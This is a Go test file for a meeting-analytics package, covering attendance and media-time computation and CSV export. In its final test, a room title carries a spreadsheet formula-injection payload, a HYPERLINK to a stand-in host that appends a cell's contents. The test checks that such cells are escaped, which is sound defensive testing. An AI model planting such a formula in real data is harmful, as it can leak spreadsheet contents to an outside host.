package analytics

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"meetd/internal/meet"
)

func TestBuild(t *testing.T) {
	t0 := time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC)
	at := func(s float64) time.Time { return t0.Add(time.Duration(s * float64(time.Second))) }
	on := true
	sess := &meet.Session{RoomID: "r", SID: "RM_1", CreatedAt: t0, EndedAt: at(10)}
	sess.Metadata.RoomTitle = "Class"
	sess.Metadata.RoomFeatures.EnableAnalytics = &on
	in := &Input{
		Session: sess,
		Users:   map[string]*meet.User{"a": {UserID: "a", Name: "Ann", IsAdmin: true}, "b": {UserID: "b", Name: "Bob"}},
		Presence: []Interval{
			{UserID: "a", From: at(0)}, // still open at the end
			{UserID: "b", From: at(2), To: at(6)},
			{UserID: "c", From: at(0.5), To: at(9)},
			{UserID: "b", From: at(8), To: at(10)},
			{UserID: "c", From: at(8.5), To: at(9.5)}, // a second tab, overlapping: counted once
		},
		Tracks: []Interval{
			{UserID: "a", Source: "MICROPHONE", From: at(0)},
			{UserID: "c", Source: "CAMERA", From: at(3), To: at(5)},
			{UserID: "b", Source: "MICROPHONE", From: at(2)}, // never unpublished: counts while b is there
			{UserID: "a", Source: "SCREEN_SHARE", From: at(4), To: at(4.4)},
		},
	}
	r := Build(in)
	if r.DistinctUsers != 3 || r.PeakConcurrent != 3 || r.DurationSecs != 10 || r.RoomTitle != "Class" {
		t.Fatalf("report %+v", r)
	}
	users := map[string]UserReport{}
	for _, u := range r.Users {
		users[u.UserID] = u
	}
	check := func(id string, present, mic, cam, screen int64, joins, segments int) {
		t.Helper()
		u := users[id]
		if u.PresentSeconds != present || u.MicSeconds != mic || u.CameraSeconds != cam || u.ScreenSeconds != screen ||
			u.Joins != joins || len(u.Segments) != segments {
			t.Errorf("%s: %+v", id, u)
		}
	}
	check("a", 10, 10, 0, 0, 1, 1)
	check("b", 6, 6, 0, 0, 2, 2)
	check("c", 9, 0, 2, 0, 2, 1)
	if !users["a"].IsAdmin || users["b"].Name != "Bob" {
		t.Errorf("names and roles: %+v", users)
	}
	if seg := users["b"].Segments; !seg[0].Joined.Equal(at(2)) || !seg[0].Left.Equal(at(6)) || !seg[1].Joined.Equal(at(8)) {
		t.Errorf("b segments %+v", seg)
	}
	csv := string(r.CSV())
	if lines := strings.Split(strings.TrimSpace(csv), "\n"); len(lines) != 4 || !strings.HasPrefix(lines[0], "room_id,sid,room_title,user_id") {
		t.Errorf("csv:\n%s", csv)
	}
}

// Muted tracks do not count as on, and speaking counts within the connection it was heard on.
func TestBuildMutedAndTalking(t *testing.T) {
	t0 := time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC)
	at := func(s float64) time.Time { return t0.Add(time.Duration(s * float64(time.Second))) }
	in := &Input{
		Session: &meet.Session{RoomID: "r", SID: "RM_1", CreatedAt: t0, EndedAt: at(10)},
		Presence: []Interval{
			{UserID: "a", Item: "PA_1", From: at(0)},
			{UserID: "b", Item: "PA_2", From: at(0), To: at(4)},
			{UserID: "b", Item: "PA_3", From: at(6), To: at(10)},
		},
		Tracks: []Interval{
			{UserID: "a", Item: "TR_mic", Source: "MICROPHONE", From: at(0)},
			{UserID: "a", Item: "TR_cam", Source: "CAMERA", From: at(1), To: at(9)},
			{UserID: "b", Item: "TR_b", Source: "MICROPHONE", From: at(0), To: at(4)},
		},
		Muted: []Interval{
			{UserID: "a", Item: "TR_mic", From: at(2), To: at(5)},
			{UserID: "a", Item: "TR_cam", From: at(3)}, // camera switched off for good
			{UserID: "b", Item: "TR_b", From: at(1), To: at(1.5)},
			{UserID: "b", Item: "TR_b", From: at(1.2), To: at(2)}, // overlapping reports: counted once
		},
		Talking: []Interval{
			{UserID: "a", Item: "PA_1", From: at(1), To: at(2)},
			{UserID: "a", Item: "PA_1", From: at(6), To: at(8.4)},
			{UserID: "b", Item: "PA_2", From: at(3)}, // never closed: ends with its connection at 4
			{UserID: "b", Item: "PA_3", From: at(7), To: at(8)},
		},
	}
	users := map[string]UserReport{}
	for _, u := range Build(in).Users {
		users[u.UserID] = u
	}
	if a := users["a"]; a.MicSeconds != 7 || a.CameraSeconds != 2 || a.TalkSeconds != 3 {
		t.Errorf("a: mic %d camera %d talk %d, want 7, 2, 3", a.MicSeconds, a.CameraSeconds, a.TalkSeconds)
	}
	if b := users["b"]; b.MicSeconds != 3 || b.TalkSeconds != 2 {
		t.Errorf("b: mic %d talk %d, want 3, 2", b.MicSeconds, b.TalkSeconds)
	}
}

func TestMinus(t *testing.T) {
	t0 := time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC)
	s := func(from, to int) span {
		return span{t0.Add(time.Duration(from) * time.Second), t0.Add(time.Duration(to) * time.Second)}
	}
	for _, c := range []struct {
		a, b, want []span
	}{
		{[]span{s(0, 10)}, nil, []span{s(0, 10)}},
		{[]span{s(0, 10)}, []span{s(2, 3), s(5, 6)}, []span{s(0, 2), s(3, 5), s(6, 10)}},
		{[]span{s(0, 10)}, []span{s(-5, 2), s(8, 20)}, []span{s(2, 8)}},
		{[]span{s(0, 10)}, []span{s(-5, 20)}, nil},
		{[]span{s(0, 2), s(4, 6)}, []span{s(1, 5)}, []span{s(0, 1), s(5, 6)}},
		{[]span{s(0, 2)}, []span{s(2, 3)}, []span{s(0, 2)}},
	} {
		got := minus(c.a, c.b)
		if len(got) != len(c.want) {
			t.Errorf("minus(%v, %v) = %v, want %v", c.a, c.b, got, c.want)
			continue
		}
		for i := range got {
			if !got[i].from.Equal(c.want[i].from) || !got[i].to.Equal(c.want[i].to) {
				t.Errorf("minus(%v, %v) = %v, want %v", c.a, c.b, got, c.want)
				break
			}
		}
	}
}

// A cell that a spreadsheet would read as a formula is written as text (doc/security.md).
func TestCSVFormulaSafe(t *testing.T) {
	r := Report{RoomID: "r1", SID: "RM_1", RoomTitle: "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", Users: []UserReport{
		{UserID: "u1", Name: "+1 555"}, {UserID: "u2", Name: "-2"}, {UserID: "u3", Name: "@SUM(A1)"},
		{UserID: "u4", Name: "\tx"}, {UserID: "u5", Name: "\rx"}, {UserID: "u6", Name: "Ann = Bob"},
	}}
	rows, err := csv.NewReader(bytes.NewReader(r.CSV())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"u1": "'+1 555", "u2": "'-2", "u3": "'@SUM(A1)", "u4": "'\tx", "u5": "'\rx", "u6": "Ann = Bob"}
	for _, row := range rows[1:] {
		if row[2] != "'"+r.RoomTitle {
			t.Errorf("room_title cell %q", row[2])
		}
		if row[4] != want[row[3]] {
			t.Errorf("%s: name cell %q, want %q", row[3], row[4], want[row[3]])
		}
	}
}
